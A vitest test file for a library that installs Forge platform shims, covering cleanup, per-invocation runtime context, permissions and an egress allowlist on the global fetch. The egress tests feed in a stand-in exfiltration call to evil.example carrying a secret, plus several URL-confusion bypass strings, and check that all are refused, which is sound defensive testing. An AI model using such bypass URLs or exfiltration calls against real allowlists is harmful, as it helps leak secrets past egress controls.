import { createTributary } from '@tributary/api';
import { apiToken, cloud } from '@tributary/auth-providers';
import { inForge } from '@tributary/auth-providers/in-forge';
import { systemClock } from '@tributary/pipeline';
import { createInvocation, runInInvocation } from '@tributary/pipeline/invocation';
import { describe, expect, test } from 'vitest';
import { describeInvocation, install } from '../../src/index.js';
import { forgeApi, globals, loadForgeApiAnew } from '../support/forge-api.js';
import { installed, recorderOfFile } from '../support/installed.js';

const { default: api, route } = forgeApi;
const PATH = route`/wiki/api/v2/spaces`;

const server = await recorderOfFile();
const tributary = createTributary({
  site: cloud(server.url),
  app: apiToken({ email: 'ada@example.com', token: 'token' }),
});
const { begin, dispose } = installed(tributary);

describe('install', () => {
  test('leaves nothing behind', async () => {
    const before = globalThis.fetch;
    begin({ egress: ['example.com'] });
    expect(typeof globals.__forge_fetch__).toBe('function');
    expect(globals.__forge_runtime__).toHaveProperty('appContext');
    dispose();
    dispose();
    expect(Object.keys(globalThis)).not.toContain('__forge_fetch__');
    expect('__forge_fetch__' in globalThis || '__forge_runtime__' in globalThis).toBe(false);
    expect(globalThis.fetch).toBe(before);
    await expect(api.asApp().requestConfluence(PATH)).rejects.toThrow(/not a function/);
  });

  test('a second is refused, and says why', () => {
    begin();
    const first = globals.__forge_fetch__;
    for (const replace of [false, true]) {
      expect(() => install(tributary, { replace })).toThrow(
        expect.objectContaining({
          code: 'CONFIG_INVALID',
          field: 'install',
          message: expect.stringContaining('was called already'),
        }),
      );
    }
    expect(globals.__forge_fetch__).toBe(first);
  });

  test('a platform that is there already is kept, or replaced and put back', async () => {
    const there = async () => new Response('theirs');
    globals.__forge_fetch__ = there;
    globals.__forge_runtime__ = { theirs: true };
    expect(() => install(tributary)).toThrow(/replace: true/);
    begin({ replace: true });
    await api.asApp().requestConfluence(PATH);
    expect(server.arrived).toHaveLength(1);
    dispose();
    expect(globals).toMatchObject({ __forge_fetch__: there, __forge_runtime__: { theirs: true } });
    delete globals.__forge_fetch__;
    delete globals.__forge_runtime__;
  });

  test('what somebody else put in its place stays', () => {
    begin();
    const theirs = async () => new Response();
    globals.__forge_fetch__ = theirs;
    dispose();
    expect(globals.__forge_fetch__).toBe(theirs);
    delete globals.__forge_fetch__;
  });

  test('a client made of inForge() would call itself', async () => {
    await using looping = createTributary(inForge());
    expect(() => install(looping)).toThrow(
      expect.objectContaining({ code: 'CONFIG_INVALID', field: 'tributary' }),
    );
    expect(() => install(tributary, { bitbucket: looping })).toThrow(
      expect.objectContaining({ field: 'bitbucket' }),
    );
    expect(() => install({} as never)).toThrow(expect.objectContaining({ field: 'tributary' }));
    expect(globals.__forge_fetch__).toBeUndefined();
  });

  test('is what inForge() finds, too', async () => {
    begin();
    await using inside = createTributary(inForge());
    const { route: ours } = await import('@tributary/route');
    const response = await inside.asApp().requestConfluence(ours`/wiki/api/v2/spaces`);
    expect(response.status).toBe(200);
    expect(server.only().headers.authorization).toMatch(/^Basic /);
  });

  test('a call under way when it ends goes on', async () => {
    begin();
    const answer = api.asApp().requestConfluence(PATH);
    dispose();
    expect((await answer).status).toBe(200);
  });
});

describe('__forge_runtime__', () => {
  const visit = (id: string) =>
    createInvocation({
      surface: 'forge',
      user: { id, accountId: `account-${id}` },
      installationId: `installation-${id}`,
    });

  test('is each invocation’s own, and stays the same in it', async () => {
    begin();
    const look = (id: string) => {
      const invocation = visit(id);
      describeInvocation(invocation, { moduleKey: `module-${id}`, license: { active: true } });
      return runInInvocation(invocation, async () => {
        const first = forgeApi.__getRuntime();
        await new Promise((resolve) => setImmediate(resolve));
        expect(forgeApi.__getRuntime()).toBe(first);
        const context = forgeApi.getAppContext();
        return [
          first.aaid,
          first.appContext.moduleKey,
          String(context.installationAri),
          context.invocationId === invocation.id,
          context.license?.active,
          first.tracing.traceId,
        ];
      });
    };
    const [ann, bob] = await Promise.all([look('ann'), look('bob')]);
    expect(ann?.slice(0, 5)).toEqual([
      'account-ann',
      'module-ann',
      'ari:cloud:ecosystem::installation/installation-ann',
      true,
      true,
    ]);
    expect(bob?.slice(0, 2)).toEqual(['account-bob', 'module-bob']);
    expect(ann?.[5]).toMatch(/^[\da-f]{32}$/);
    expect(ann?.[5]).not.toBe(bob?.[5]);
  });

  test('tells what the options say of the app', () => {
    begin({
      app: { appId: 'app-1', environmentId: 'env-1', appVersion: '2.1.0' },
      permissions: {
        scopes: ['read:page:confluence'],
        external: { fetch: { backend: ['api.example.com'] } },
      },
      contextAri: 'ari:cloud:confluence::site/x',
    });
    const { permissions } = forgeApi;
    const context = forgeApi.getAppContext();
    expect(String(context.appAri)).toBe('ari:cloud:ecosystem::app/app-1');
    expect(String(context.environmentAri)).toBe('ari:cloud:ecosystem::environment/app-1/env-1');
    expect([context.appVersion, context.environmentType]).toEqual(['2.1.0', 'DEVELOPMENT']);
    expect(forgeApi.__getRuntime().contextAri).toBe('ari:cloud:confluence::site/x');
    expect(permissions.hasScope('read:page:confluence')).toBe(true);
    expect(permissions.hasScope('write:page:confluence')).toBe(false);
    expect(permissions.canFetchFrom('backend', 'https://api.example.com/x')).toBe(true);
    expect(permissions.canFetchFrom('backend', 'https://evil.example')).toBe(false);
  });

  test('counts down the time of an invocation', () => {
    begin({ invocationTimeout: 10_000 });
    const remaining = () => forgeApi.getAppContext().invocationRemainingTimeInMillis();
    runInInvocation(visit('ann'), () => {
      expect(remaining()).toBeGreaterThan(9_000);
      expect(remaining()).toBeLessThanOrEqual(10_000);
    });
    const late = visit('bob');
    const longAgo = { monotonic: () => systemClock.monotonic() - 5_000 };
    describeInvocation(late, { timeout: 4_000 }, longAgo as never);
    describeInvocation(late, { moduleKey: 'later' });
    runInInvocation(late, () => expect(remaining()).toBe(0));
  });

  test('has metrics that count nothing, or the app’s own', async () => {
    const counted: string[] = [];
    const silent = { incrBy() {}, decr() {}, decrBy() {} };
    begin({
      metrics: {
        counter: (name) => ({ ...silent, incr: () => counted.push(name) }),
        timing: () => ({ measure: () => ({ stop() {} }) }),
        gauge: () => ({ set() {} }),
      },
    });
    forgeApi.permissions.hasScope('x');
    expect(counted).toEqual(['api.permissions.hasScope']);
    dispose();
    begin();
    expect(forgeApi.permissions.hasScope('x')).toBe(false);
  });

  test('bindInvocationContext keeps an invocation for what runs later', () => {
    begin();
    const accountOf = () => forgeApi.__getRuntime().aaid;
    const bound = runInInvocation(visit('ann'), () => forgeApi.bindInvocationContext(accountOf));
    runInInvocation(visit('bob'), () => {
      expect([bound(), accountOf()]).toEqual(['account-ann', 'account-bob']);
    });
  });
});

describe('the global fetch', () => {
  test('is left alone where no hosts are named', () => {
    const before = globalThis.fetch;
    begin();
    expect(globalThis.fetch).toBe(before);
  });

  test.each([
    ['egress', { egress: ['127.0.0.1:*', 'api.example.com'] }],
    [
      'the manifest’s permissions',
      { permissions: { external: { fetch: { backend: [{ address: 'api.example.com' }] } } } },
    ],
  ] as const)('keeps to %s', async (_, options) => {
    begin(options);
    const refused = fetch('https://evil.example/x?key=secret');
    await expect(refused).rejects.toThrow(
      expect.objectContaining({
        name: 'REQUEST_EGRESS_ALLOWLIST_ERR',
        status: 403,
        message: expect.stringMatching(
          /^URL not included in the external fetch backend permissions: https:\/\/evil\.example\/x\. /,
        ),
      }),
    );
    for (const address of [
      'https://api.example.com@evil.example/',
      'https://api.example.com.evil.example/',
      'http://api.example.com/',
      'https://evil.example\\@api.example.com/',
    ]) {
      await expect(fetch(address), address).rejects.toThrow(/not included/);
    }
    await expect(fetch(new Request('https://evil.example'))).rejects.toThrow(/not included/);
    await expect(fetch(new URL('https://evil.example'))).rejects.toThrow(/not included/);
  });

  test('lets through what is listed, and our own calls, without a list that names the site', async () => {
    begin({ egress: ['http://127.0.0.1'] });
    await expect(fetch(server.url)).rejects.toThrow(/not included/);
    expect((await api.asApp().requestConfluence(PATH)).status).toBe(200);
    expect(server.only().url).toBe('/wiki/api/v2/spaces');
    dispose();
    begin({ egress: [server.url] });
    expect((await fetch(`${server.url}/x`, { method: 'POST', body: 'y' })).status).toBe(200);
    expect((await fetch(new Request(`${server.url}/z`))).status).toBe(200);
    expect(server.arrived.map(({ method, url }) => [method, url])).toEqual([
      ['POST', '/x'],
      ['GET', '/z'],
    ]);
  });

  test('is what @forge/api fetches by, when it is loaded later', async () => {
    begin({ egress: [server.url] });
    const { fetch: forgeFetch } = loadForgeApiAnew();
    expect((await forgeFetch(`${server.url}/x`)).status).toBe(200);
    const refused: Error = await forgeFetch('https://evil.example').catch((error) => error);
    expect(refused.name).toBe('REQUEST_EGRESS_ALLOWLIST_ERR');
    expect(forgeApi.isForgePlatformError(refused)).toBe(true);
  });

  test('hands on to what a test tool puts before it', async () => {
    begin({ egress: [server.url] });
    const guarded = globalThis.fetch;
    globalThis.fetch = (...call) => guarded(...call);
    try {
      expect((await fetch(server.url)).status).toBe(200);
      await expect(fetch('https://evil.example')).rejects.toThrow(/not included/);
    } finally {
      globalThis.fetch = guarded;
    }
  });
});
